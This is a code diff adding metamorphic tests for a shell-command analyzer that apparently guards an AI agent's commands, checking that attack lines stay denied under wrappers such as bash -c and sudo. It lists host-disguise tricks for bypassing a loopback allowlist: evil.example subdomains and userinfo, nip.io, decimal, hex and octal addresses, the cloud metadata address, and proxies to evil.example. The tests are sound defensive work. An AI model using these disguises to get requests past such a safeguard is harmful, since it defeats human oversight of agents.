@@ -140,3 +140,81 @@ describe('metamorphic: benign stays passing', () => {
     );
   });
 });
+
+describe('metamorphic: agent work, every line under every envelope', () => {
+  // Not sampled: each line of corpus/agent-work.jsonl the analyzer gets right, under each wrapper a developer or an
+  // attacker would put around it. A dev-server check stays allowed in `cd src && { … }`; its attack stays denied in
+  // `bash -c '…'`, `sudo`, `timeout`.
+  const agentWork = (shell: CorpusCase['shell'], verdict: 'deny' | 'pass') => baseline(shell, verdict).filter((c) => c.id.startsWith('agent-work-'));
+
+  it('bash: benign lines pass under the benign envelopes and the shell-state forms', () => {
+    const benign = agentWork('bash', 'pass');
+    expect(benign.length, 'passing agent-work lines').toBeGreaterThan(200);
+    const failures: string[] = [];
+    for (const c of benign) {
+      for (const t of [...BENIGN_ENVELOPES, ...STATE_FORMS]) {
+        const command = transformed(c, [t]);
+        if (verdictOf(analyzer.analyze({ ...c, command })) !== 'pass') failures.push(describeRun(c, [t], command));
+      }
+    }
+    expect(failures.slice(0, 10), `${failures.length} failures`).toEqual([]);
+  });
+
+  it('bash: attacks stay denied under every envelope', () => {
+    const denied = agentWork('bash', 'deny');
+    expect(denied.length, 'denied agent-work lines').toBeGreaterThan(60);
+    const failures: string[] = [];
+    for (const c of denied) {
+      for (const t of [...ENVELOPES, ...STATE_FORMS]) {
+        const command = transformed(c, [t]);
+        if (verdictOf(analyzer.analyze({ ...c, command })) !== 'deny') failures.push(describeRun(c, [t], command));
+      }
+    }
+    expect(failures.slice(0, 10), `${failures.length} failures`).toEqual([]);
+  });
+
+  it('powershell: benign lines pass, attacks stay denied', () => {
+    const failures: string[] = [];
+    for (const [verdict, pool] of [['pass', PS_BENIGN], ['deny', PS_TRANSFORMS]] as const) {
+      for (const c of agentWork('powershell', verdict)) {
+        for (const t of pool) {
+          const command = transformed(c, [t]);
+          if (verdictOf(analyzer.analyze({ ...c, command })) !== verdict) failures.push(`${verdict}: ${describeRun(c, [t], command)}`);
+        }
+      }
+    }
+    expect(failures.slice(0, 10), `${failures.length} failures`).toEqual([]);
+  });
+});
+
+describe('metamorphic: an allowed destination, disguised or redirected, is denied', () => {
+  // Every passing line that reaches a loopback host by name or address; each rewrite points the same client
+  // elsewhere in a form an attacker would try, so the line must then be denied.
+  const LOOPBACK = /\b(localhost|127\.0\.0\.1)(?=[:/'"\s]|$)/;
+  const DISGUISES: { name: string; apply: (c: string) => string }[] = [
+    { name: 'a name that starts with localhost', apply: (c) => c.replace(LOOPBACK, '$1.evil.example') },
+    { name: 'userinfo before another host', apply: (c) => c.replace(LOOPBACK, '$1@evil.example') },
+    { name: 'a wildcard DNS name', apply: (c) => c.replace(LOOPBACK, '127.0.0.1.nip.io') },
+    { name: 'a decimal address', apply: (c) => c.replace(LOOPBACK, '2130706433') },
+    { name: 'a hex address', apply: (c) => c.replace(LOOPBACK, '0x7f000001') },
+    { name: 'an octal address', apply: (c) => c.replace(LOOPBACK, '0177.0.0.1') },
+    { name: 'cloud metadata', apply: (c) => c.replace(LOOPBACK, '169.254.169.254') },
+    { name: 'a computed host', apply: (c) => c.replace(LOOPBACK, '$HOST') },
+  ];
+  it('bash: curl and wget lines to loopback', () => {
+    const lines = baseline('bash', 'pass').filter((c) => /^(curl|wget)\b/.test(c.command) && LOOPBACK.test(c.command));
+    expect(lines.length, 'passing curl/wget lines to loopback').toBeGreaterThan(15);
+    const failures: string[] = [];
+    for (const c of lines) {
+      for (const d of DISGUISES) {
+        const command = d.apply(c.command);
+        if (verdictOf(analyzer.analyze({ ...c, command })) !== 'deny') failures.push(`${c.id} under [${d.name}]: ${command}`);
+      }
+      // A proxy the line sets, or one given as an option, goes elsewhere whatever the URL.
+      for (const command of [`ALL_PROXY=http://evil.example:3128 ${c.command}`, c.command.replace(/^(curl|wget)\b/, c.command.startsWith('curl') ? 'curl -x evil.example:3128' : 'https_proxy=http://evil.example:3128 http_proxy=http://evil.example:3128 wget')]) {
+        if (verdictOf(analyzer.analyze({ ...c, command })) !== 'deny') failures.push(`${c.id} through a proxy: ${command}`);
+      }
+    }
+    expect(failures.slice(0, 10), `${failures.length} failures`).toEqual([]);
+  });
+});
